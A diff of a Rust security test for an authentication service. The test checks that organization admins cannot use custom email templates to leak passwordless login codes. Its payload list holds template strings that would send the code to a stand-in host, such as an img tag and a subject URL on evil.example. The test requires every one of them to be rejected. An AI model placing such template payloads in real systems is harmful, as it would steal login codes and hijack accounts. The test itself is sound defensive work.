@@ -62,37 +62,41 @@ async fn an_org_admin_cannot_carry_a_code_off_through_its_templates() {
         json!({"kind": "email_code", "outro": "<img src=https://evil.example/p>{{code}}"}),
         json!({"kind": "email_code", "subject": "https://evil.example/{{ code }}"}),
     ];
+    let path = format!("/api/v1/organizations/{org}");
+    let patch = |wording: serde_json::Value| {
+        let body = json!({"settings": {"templates": [wording]}});
+        test.patch(&path, body, Some(&key))
+    };
+    // Every way of placing the code is refused when the settings are saved.
     for (n, wording) in payloads.into_iter().enumerate() {
-        let settings = json!({"templates": [wording]});
-        let patched = test
-            .patch(
-                &format!("/api/v1/organizations/{org}"),
-                json!({"settings": settings}),
-                Some(&key),
-            )
-            .await;
-        if patched.status != StatusCode::OK {
-            assert_eq!(patched.status, StatusCode::BAD_REQUEST, "{}", patched.body);
-            continue;
-        }
-        test.advance(std::time::Duration::from_secs(61));
-        let sent = test
-            .post(
-                &format!("/api/v1/auth/passwordless/email-code?client_id={client}"),
-                json!({"email": victim}),
-                None,
-            )
-            .await;
-        assert_eq!(sent.status, StatusCode::OK, "{}", sent.body);
-        let mail = test.mail.sent().pop().unwrap();
-        let code = mail.message.code.as_ref().unwrap().secret().to_owned();
-        let html = mail.html.clone().unwrap_or_default();
-        assert!(
-            !html.contains("evil.example"),
-            "payload {n} reached the mail: {html}"
+        let patched = patch(wording).await;
+        assert_eq!(
+            patched.status,
+            StatusCode::BAD_REQUEST,
+            "payload {n}: {}",
+            patched.body
         );
-        assert!(html.contains(&code), "the code is still in the message");
     }
+    // What an organization may say reaches the message as words, and the code only where
+    // the engine puts it.
+    let words = json!({"kind": "email_code", "intro": "<b>Evil</b> says:"});
+    let patched = patch(words).await;
+    assert_eq!(patched.status, StatusCode::OK, "{}", patched.body);
+    test.advance(std::time::Duration::from_secs(61));
+    let sent = test
+        .post(
+            &format!("/api/v1/auth/passwordless/email-code?client_id={client}"),
+            json!({"email": victim}),
+            None,
+        )
+        .await;
+    assert_eq!(sent.status, StatusCode::OK, "{}", sent.body);
+    let mail = test.mail.sent().pop().unwrap();
+    let code = mail.message.code.as_ref().unwrap().secret().to_owned();
+    let html = mail.html.clone().unwrap_or_default();
+    assert!(html.contains("&lt;b&gt;Evil&lt;/b&gt; says:"), "{html}");
+    assert_eq!(html.matches(code.as_str()).count(), 1, "{html}");
+    assert!(!html.contains("<img") && !html.contains("href="), "{html}");
 }
 
 /// Checklist ADM-01 (issue 16, item 1; DESIGN invariant 16): an organization's
